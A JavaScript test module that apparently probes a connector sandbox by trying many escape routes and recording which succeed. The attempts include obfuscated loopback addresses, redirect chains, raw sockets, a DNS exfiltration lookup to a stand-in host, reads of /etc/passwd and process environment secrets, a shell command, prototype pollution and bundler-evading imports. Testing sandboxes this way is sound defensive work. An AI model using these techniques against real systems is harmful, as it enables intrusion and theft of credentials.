/**
 * Tries every way out of the sandbox that we know of. `query` makes one attempt and answers what it got hold of, if
 * anything: `{attempt, escaped}`. The grant is the port `granted` on 127.0.0.1; nothing may ever reach the port `forbidden`.
 * Long, because it is one list: each attempt is a line or a few.
 */
const text = (answer) => answer.text()
const get = (url, options) => fetch(url, options).then(text)

/** The attempt has worked where it answers anything but undefined. */
const attempts = {
  // Other spellings of a host that was not granted
  literal: ({ forbidden }) => get(`http://127.0.0.1:${forbidden}/`),
  'name of loopback': ({ forbidden }) => get(`http://localhost:${forbidden}/`),
  'granted port under another name': ({ granted }) => get(`http://localhost:${granted}/`),
  'decimal address': ({ forbidden }) => get(`http://2130706433:${forbidden}/`),
  'hexadecimal address': ({ forbidden }) => get(`http://0x7f000001:${forbidden}/`),
  'octal address': ({ forbidden }) => get(`http://0177.0.0.1:${forbidden}/`),
  'short address': ({ forbidden }) => get(`http://127.1:${forbidden}/`),
  'trailing dot': ({ forbidden }) => get(`http://127.0.0.1.:${forbidden}/`),
  'full-width digits': ({ forbidden }) => get(`http://１２７.０.０.１:${forbidden}/`),
  'another address of loopback': ({ forbidden }) => get(`http://127.0.0.2:${forbidden}/`),
  'unspecified address': ({ forbidden }) => get(`http://0.0.0.0:${forbidden}/`),
  'IPv6 loopback': ({ forbidden }) => get(`http://[::1]:${forbidden}/`),
  'IPv4-mapped IPv6': ({ forbidden }) => get(`http://[::ffff:127.0.0.1]:${forbidden}/`),
  'public name for loopback': ({ forbidden }) => get(`http://localtest.me:${forbidden}/`),
  'user name before the host': ({ granted, forbidden }) => get(`http://127.0.0.1:${granted}@127.0.0.1:${forbidden}/`),
  'request object': ({ granted, forbidden }) =>
    get(new Request(`http://127.0.0.1:${forbidden}/`, new Request(`http://127.0.0.1:${granted}/`))),
  'host header': async ({ granted, forbidden }) => {
    const answer = await get(`http://127.0.0.1:${granted}/`, { headers: { Host: `127.0.0.1:${forbidden}` } })
    return answer === 'secret' ? answer : undefined
  },
  'resolve override': async ({ granted, forbidden }) => {
    const cf = { resolveOverride: `127.0.0.1:${forbidden}`, cacheKey: 'shared', cacheEverything: true }
    const answer = await get(`http://127.0.0.1:${granted}/`, { cf })
    return answer === 'secret' ? answer : undefined
  },

  // Redirects
  'redirect 301': (ports) => get(redirect(ports, 301)),
  'redirect 302': (ports) => get(redirect(ports, 302)),
  'redirect 307 with a body': (ports) => get(redirect(ports, 307), { method: 'POST', body: 'x' }),
  'redirect 308': (ports) => get(redirect(ports, 308)),
  'chain of redirects': (ports) => get(through(ports, through(ports, redirect(ports, 302)))),
  'redirect to another spelling': (ports) => get(through(ports, `http://2130706433:${ports.forbidden}/`)),
  'redirect to a relative protocol': (ports) => get(through(ports, `//127.0.0.1:${ports.forbidden}/`)),
  'redirect followed by hand': async (ports) => {
    const answer = await fetch(redirect(ports, 302), { redirect: 'manual' })
    return get(answer.headers.get('location'))
  },

  // Other protocols
  WebSocket: ({ forbidden }) =>
    new Promise((resolve, reject) => {
      const socket = new WebSocket(`ws://127.0.0.1:${forbidden}/`)
      socket.onopen = () => resolve('open')
      socket.onerror = reject
    }),
  'WebSocket by an upgrade': async ({ forbidden }) => {
    const answer = await fetch(`http://127.0.0.1:${forbidden}/`, { headers: { Upgrade: 'websocket' } })
    return answer.webSocket ?? undefined
  },
  'WebSocket stream': ({ forbidden }) => new WebSocketStream(`ws://127.0.0.1:${forbidden}/`).opened,
  'event source': ({ forbidden }) =>
    new Promise((resolve, reject) => {
      const source = new EventSource(`http://127.0.0.1:${forbidden}/`)
      source.onopen = () => resolve('open')
      source.onerror = () => {
        source.close()
        reject(new Error('refused'))
      }
    }),
  'raw connection': async ({ forbidden }) => said(await import('node:net'), forbidden, '127.0.0.1'),
  'raw connection by name': async ({ granted }) => said(await import('node:net'), granted, 'localhost'),
  'TLS connection': async ({ forbidden }) => {
    const { connect } = await import('node:tls')
    return new Promise((resolve, reject) => {
      const socket = connect({ port: forbidden, host: '127.0.0.1', rejectUnauthorized: false })
      socket.on('secureConnect', () => resolve('connected'))
      socket.on('error', reject)
      socket.on('close', reject)
    })
  },
  'HTTP by the module of Node': async ({ forbidden }) => {
    const { get: request } = await import('node:http')
    return new Promise((resolve, reject) => {
      request(`http://127.0.0.1:${forbidden}/`, (answer) => {
        answer.on('data', (data) => resolve(String(data)))
        answer.on('end', () => reject(new Error('empty')))
      }).on('error', reject)
    })
  },
  'HTTP/2': async ({ forbidden }) => {
    const { connect } = await import('node:http2')
    return new Promise((resolve, reject) => connect(`http://127.0.0.1:${forbidden}`, resolve).on('error', reject))
  },
  datagram: async ({ forbidden }) => {
    const { createSocket } = await import('node:dgram')
    const socket = createSocket('udp4')
    return new Promise((resolve, reject) => {
      socket.on('error', reject)
      socket.send('x', forbidden, '127.0.0.1', (error) => (error ? reject(error) : resolve('sent')))
    })
  },
  'data in a DNS question': async () => (await import('node:dns')).promises.resolveTxt('stolen.example.com'),
  'look-up of a name': async () => (await import('node:dns')).promises.lookup('localhost'),
  'sockets of the platform': async ({ forbidden }) => {
    const connect = await platformConnect()
    const socket = await connect({ hostname: '127.0.0.1', port: forbidden })
    await socket.opened
    return (await socket.readable.getReader().read()).value
  },
  'proxy on the forbidden port': async ({ granted, forbidden }) => {
    const client = Deno.createHttpClient({ proxy: { url: `http://127.0.0.1:${forbidden}` } })
    return get(`http://127.0.0.1:${granted}/`, { client })
  },
  'proxy by variables': async ({ granted, forbidden }) => {
    process.env.HTTP_PROXY = `http://127.0.0.1:${forbidden}`
    const answer = await get(`http://127.0.0.1:${granted}/`)
    return answer === 'secret' ? answer : undefined
  },
  // Some platforms have sockets that nobody outside can reach.
  'listening socket': async (ports) => {
    const { createServer } = await import('node:net')
    const port = await new Promise((resolve, reject) => {
      const server = createServer().listen(0, '127.0.0.1', () => resolve(server.address().port))
      server.on('error', reject)
    })
    return knock(ports, port)
  },
  inspector: async (ports) => {
    const { open, url } = await import('node:inspector')
    open(0, '127.0.0.1')
    return knock(ports, new URL(url()).port)
  },

  // Code from elsewhere
  'import from the network': ({ granted }) => import(computed(`http://127.0.0.1:${granted}/code.js`)),
  'import of a file': () => import(computed('file:///etc/hosts.json')),
  'import of a package': () => import(computed('npm:zod')),
  'import of data that makes a request': async ({ forbidden }) => {
    const code = `export const got = await fetch('http://127.0.0.1:${forbidden}/').then((answer) => answer.text())`
    return (await import(computed(`data:text/javascript,${encodeURIComponent(code)}`))).got
  },
  'generated code': ({ forbidden }) =>
    new Function('url', 'return fetch(url).then((a) => a.text())')(`http://127.0.0.1:${forbidden}/`),
  'indirect eval': ({ forbidden }) =>
    globalThis[computed('eval')](`fetch('http://127.0.0.1:${forbidden}/').then((a) => a.text())`),
  'another realm': async ({ forbidden }) => {
    const { runInNewContext } = await import('node:vm')
    return runInNewContext(`fetch('http://127.0.0.1:${forbidden}/').then((a) => a.text())`, { fetch })
  },
  'worker thread': ({ forbidden }) => {
    const code = `fetch('http://127.0.0.1:${forbidden}/').then((a) => a.text()).then(postMessage)`
    const worker = new Worker(URL.createObjectURL(new Blob([code])), { type: 'module' })
    return new Promise((resolve, reject) => {
      worker.onmessage = ({ data }) => resolve(data)
      worker.onerror = reject
    })
  },
  'WebAssembly system interface': async () =>
    new (await import('node:wasi')).WASI({ version: 'preview1', preopens: { '/': '/' } }),

  // The machine
  'file of the machine': async () => (await import('node:fs')).readFileSync('/etc/passwd', 'utf8'),
  'file of our process': async () => (await import('node:fs')).readFileSync('/proc/self/environ', 'utf8'),
  'file descriptor': async () => (await import('node:fs')).readFileSync('/proc/self/fd/0', 'utf8'),
  'folder of the machine': async () => (await import('node:fs')).readdirSync('/etc'),
  'written file': async () => (await import('node:fs')).writeFileSync('/etc/left-by-connector', 'x') ?? 'written',
  'secret in the environment': async () => {
    const { env } = await import('node:process')
    const names = Object.keys(env).filter((name) => /SERVICE|SECRET|DATABASE|TOKEN|PATH|HOME/.test(name))
    return names.length > 0 ? names : undefined
  },
  'name of the machine': async () => {
    const name = (await import('node:os')).hostname()
    return name === 'localhost' ? undefined : name
  },
  command: async () => (await import('node:child_process')).execSync('id').toString(),
  'forked process': async () => (await import('node:cluster')).default.fork().id,
  'signal to the service': async () => {
    const { kill, ppid } = await import('node:process')
    return kill(ppid, 'SIGTERM') ? 'sent' : undefined
  },
  'native library': async () => (await import('node:process')).dlopen({ exports: {} }, '/lib/x.so') ?? 'open',
  'foreign function': () => Deno.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } }).symbols.getpid(),
  'database file': async () => new (await import('node:sqlite')).DatabaseSync('/tmp/left-by-connector.db') && 'open',
  'more permissions': async () => {
    const { state } = await Deno.permissions.request({ name: 'net' })
    return state === 'granted' ? state : undefined
  },
  'kept storage': () => {
    localStorage.setItem('left', 'by a connector')
    return localStorage.getItem('left')
  },
  'shared cache': async () => {
    const cache = await caches.open('shared')
    await cache.put('http://shared.example/', new Response('left'))
    return cache.match('http://shared.example/').then(text)
  },

  // The walls themselves
  'hidden marker': async ({ forbidden }) => {
    const { get: real } = Headers.prototype
    Headers.prototype.get = () => null
    try {
      const body = await get(`http://127.0.0.1:${forbidden}/`)
      return body === '' ? undefined : body
    } finally {
      Headers.prototype.get = real
    }
  },
  'stained prototypes': async ({ forbidden }) => {
    for (const name of ['grant', 'allowPrivate', 'permitted', 'state']) Object.prototype[name] = ['127.0.0.1', true]
    Array.prototype.some = () => true
    Array.prototype.includes = () => true
    String.prototype.startsWith = () => true
    try {
      return await get(`http://127.0.0.1:${forbidden}/`)
    } finally {
      for (const name of ['grant', 'allowPrivate', 'permitted', 'state']) delete Object.prototype[name]
    }
  },
  'bindings of the Worker': async () => {
    const { env, exports } = await import(computed('cloudflare:workers'))
    const found = [...Object.keys(env), ...Object.keys(exports)].filter((name) => !['config', 'default'].includes(name))
    return found.length > 0 ? found : undefined
  },
  'gate of another grant': async ({ forbidden }) => {
    const { exports } = await import(computed('cloudflare:workers'))
    const gate = exports.ConnectorGate({ props: { grant: [`127.0.0.1:${forbidden}`], allowPrivate: true } })
    return text(await gate.fetch(`http://127.0.0.1:${forbidden}/`))
  },
  'request after the answer': ({ forbidden }) => {
    setTimeout(() => get(`http://127.0.0.1:${forbidden}/`).catch(() => {}), 20)
    return undefined
  },
  'message to another source': () => {
    const channel = new BroadcastChannel('connectors')
    channel.postMessage('here')
    channel.close()
    return undefined
  },
  'mark for another source': () => {
    globalThis.leftByHostile = true
    return undefined
  },
}

function redirect(ports, status) {
  return through(ports, `http://127.0.0.1:${ports.forbidden}/`, status)
}

function through({ granted }, to, status = 302) {
  return `http://127.0.0.1:${granted}/redirect?status=${status}&to=${encodeURIComponent(to)}`
}

/** Whether the port can be reached from outside. */
async function knock({ granted }, port) {
  const state = await get(`http://127.0.0.1:${granted}/knock?port=${port}`)
  return state === 'open' ? `${port}` : undefined
}

/** The bundler looks into addresses that are written out. */
function computed(address) {
  return [...address].join('')
}

function said({ connect }, port, host) {
  return new Promise((resolve, reject) => {
    const socket = connect(port, host)
    socket.on('data', (data) => resolve(String(data)))
    socket.on('error', reject)
    socket.on('close', () => reject(new Error('closed')))
    socket.write('GET / HTTP/1.1\r\nHost: upstream\r\n\r\n')
  })
}

async function platformConnect() {
  if (typeof Deno !== 'undefined') return Deno.connect
  return (await import(computed('cloudflare:sockets'))).connect
}

/** Their failure is an error that nobody can wait for. */
const SILENT = new Set(['datagram', 'listening socket'])

/** What never answers has not worked either. */
async function attempt(name, ports) {
  const late = new Promise((resolve) => setTimeout(resolve, SILENT.has(name) ? 500 : 5_000))
  try {
    const got = await Promise.race([attempts[name](ports), late])
    return { attempt: name, escaped: got === undefined ? null : String(got).slice(0, 200) }
  } catch {
    return { attempt: name, escaped: null }
  }
}

export const preflight = () => ({ permissions: [] })

export const setup = () => ({
  introspect: () => Object.keys(attempts),
  query: ({ name, ports }) => attempt(name, ports),
})
